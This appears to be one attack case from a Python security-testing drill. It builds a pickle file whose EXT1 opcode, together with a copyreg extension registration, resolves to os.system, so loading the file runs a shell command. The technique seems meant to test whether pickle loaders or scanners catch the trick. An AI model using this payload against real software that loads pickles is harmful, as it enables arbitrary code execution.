"""An extension code in place of a name."""

from __future__ import annotations

from pathlib import Path

from veristep.drill.attack import Attack
from veristep.drill.load import payload


def _plant(folder: Path) -> Path:
    path = folder / "ext.pkl"
    text = payload.COMMAND.encode()
    path.write_bytes(b"\x80\x02\x82\x2aX" + len(text).to_bytes(4, "little") + text + b"\x85R.")
    head = "import copyreg, pickle\ncopyreg.add_extension('posix', 'system', 42)"
    return payload.script(folder, path, "with open(path, 'rb') as file:\n    pickle.load(file)", head)


ATTACK = Attack(
    "extension code",
    "a number that a registry turns into os.system stands in place of the name",
    "LOAD001",
    _plant,
    incident=(8,),
)
